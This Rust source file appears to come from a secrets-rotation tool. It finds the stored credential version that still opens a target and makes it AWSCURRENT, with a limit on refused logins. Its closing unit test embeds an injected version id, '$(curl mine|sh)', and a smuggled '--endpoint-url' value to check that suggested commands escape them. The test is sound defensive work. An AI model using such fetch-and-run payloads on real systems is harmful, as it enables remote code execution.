//! recover: the version that opens the target becomes AWSCURRENT.

use crate::argument::argument;
use crate::context::Context;
use crate::error::{Error, ErrorKind, Result};
use crate::operator::Reply;
use crate::operator::leaked::{self, Leaked};
use crate::protocol::Protocol;
use crate::store::{AWSCURRENT, AWSPENDING};

/// Versions without a label that are read at the most, youngest first.
const MOST_TRIED: usize = 20;

/// Finds the version that opens the target and makes it AWSCURRENT, under a budget of refused logins.
///
/// `only` names the one version that is tried, and whether it may be one whose credential was retired because others know
/// it. Without, those are left alone.
pub(super) async fn recover(
    rotator: &dyn Protocol,
    attempts: u32,
    skip: &[String],
    only: Option<(&str, bool)>,
    cx: &Context<'_>,
) -> Result<Reply> {
    let mut tried = Vec::new();
    let mut refused = 0;
    let mut found = None;
    let mut left_alone = None;
    let leaked = Leaked::read(rotator, cx).await?;
    for id in candidates(rotator, cx).await? {
        if only.is_some_and(|(version, _)| version != id) {
            continue;
        }
        let anyway = only.is_some_and(|(_, anyway)| anyway) || cx.id_of(AWSCURRENT).as_ref() == Some(&id);
        if !anyway && leaked.has(&id, rotator, cx).await? {
            left_alone.get_or_insert(id);
            continue;
        }
        if found.is_some() || refused >= attempts || skip.contains(&id) {
            tried.push((id, None));
            continue;
        }
        let opens = match rotator.opens(&id, cx).await {
            // A person stored what cannot even be tried; another version may work.
            Err(error)
                if error.kind() == ErrorKind::Invalid
                    && only.is_none()
                    && cx.id_of(AWSCURRENT).as_ref() != Some(&id) =>
            {
                tracing::warn!(version = id, reason = %error, "a version that cannot be tried is left out");
                tried.push((id, None));
                continue;
            }
            opens => opens?,
        };
        refused += u32::from(!opens);
        tried.push((id.clone(), Some(opens)));
        if opens {
            found = Some(id);
        }
    }
    let Some(found) = found else {
        return Err(match (left_alone, only) {
            (_, Some((version, _))) if tried.is_empty() => {
                Error::conflict(format!("the secret has no version {version} with a value"))
                    .next(format!("Name another one: fourstep versions {} lists them", cx.secret_argument()))
            }
            (_, Some((version, _))) => Error::rejected(format!("the target refuses version {version}"))
                .still_works("Nothing was changed")
                .next(format!("Let the others be tried: fourstep recover {}", cx.secret_argument())),
            (Some(leaked), None) if none_is_left(&tried, skip) => leaked::refusal(&leaked, "recover", cx),
            (_, None) => not_found(&tried, skip, attempts, &cx.secret_argument()),
        });
    };
    let (current, pending) = (cx.id_of(AWSCURRENT), cx.id_of(AWSPENDING));
    if current.as_ref() == Some(&found) {
        let next = pending.filter(|pending| *pending != found).map(|_| {
            "A rotation is under way: let it go on by fourstep start, or cancel it by fourstep cancel.".to_owned()
        });
        let message = "AWSCURRENT opens the target: there is nothing to recover.".to_owned();
        return Ok(Reply::new(cx, false, message, next, tried));
    }
    let current = current.ok_or_else(|| Error::invalid("no version of the secret has AWSCURRENT"))?;
    cx.fence().await?;
    cx.store().promote(cx.secret_id(), &found, &current).await?;
    // A dead pending version would stop the next rotation, or make it refuse.
    let dead = |id: &String| tried.iter().any(|(known, opens)| known == id && *opens == Some(false));
    if let Some(pending) = pending.filter(dead) {
        cx.unstage(&pending).await?;
    }
    cx.describe_again().await?;
    let message = format!("AWSCURRENT is version {found} now, which opens the target. It was version {current}.");
    let next = "Rotate once, so that no other version may still be open: fourstep start.".to_owned();
    Ok(Reply::new(cx, true, message, Some(next), tried))
}

/// Returns the ids of all versions with a value of the right shape, newest first.
async fn candidates(rotator: &dyn Protocol, cx: &Context<'_>) -> Result<Vec<String>> {
    let mut ids: Vec<_> = cx.description().stages.into_keys().collect();
    ids.extend(cx.unlabelled(MOST_TRIED).await?.into_iter().map(|version| version.id));
    let mut versions = Vec::new();
    for id in ids {
        match rotator.made(&id, cx).await {
            Err(error) if error.kind() == ErrorKind::Invalid => {}
            made => versions.extend(made?.map(|made| (made, id))),
        }
    }
    versions.sort_by_key(|(made, _)| std::cmp::Reverse(*made));
    Ok(versions.into_iter().map(|(_, id)| id).collect())
}

fn none_is_left(tried: &[(String, Option<bool>)], skip: &[String]) -> bool {
    tried.iter().all(|(id, opens)| opens.is_some() || skip.contains(id))
}

fn not_found(tried: &[(String, Option<bool>)], skip: &[String], attempts: u32, secret: &str) -> Error {
    let refused: Vec<_> = tried.iter().filter(|(_, opens)| *opens == Some(false)).map(|(id, _)| id.as_str()).collect();
    let skipped = skip.iter().map(String::as_str);
    let known: Vec<_> = refused.iter().copied().chain(skipped).collect();
    if none_is_left(tried, skip) {
        return Error::rejected("the target refuses every version of the secret that still has its value")
            .still_works("Nothing was changed")
            .next(format!("Reset the credential at the target, and store it in the secret as AWSCURRENT; or, where the secret names an administrator by `masterarn`, let that one set a new password: fourstep reset {secret}"));
    }
    let left = tried.iter().filter(|(id, _)| !known.contains(&id.as_str())).count();
    let skip: Vec<_> = known.iter().map(|id| format!("--skip {}", argument(id, "ID"))).collect();
    Error::conflict(format!(
        "the target refuses version {}, and after {attempts} refused logins no more are made, so that the account is not locked; {left} versions are not tried",
        refused.join(" and ")
    ))
    .still_works("Nothing was changed")
    .next(format!(
        "If the server allows more refused logins in a row, go on: fourstep recover {secret} --attempts 3 {}",
        skip.join(" ")
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_id_of_a_version_runs_nothing_when_the_advice_is_pasted() {
        let hostile = "$(curl mine|sh)00000000000000000000";
        let tried = [(hostile.to_owned(), Some(false)), ("v1".to_owned(), None)];
        let error = not_found(&tried, &["0a-1B".to_owned(), "--endpoint-url=mine".to_owned()], 1, "app").to_string();
        let (_, advised) = error.split_once("go on: ").unwrap();
        assert_eq!(advised, "fourstep recover app --attempts 3 --skip ID --skip 0a-1B --skip ID.");
    }
}
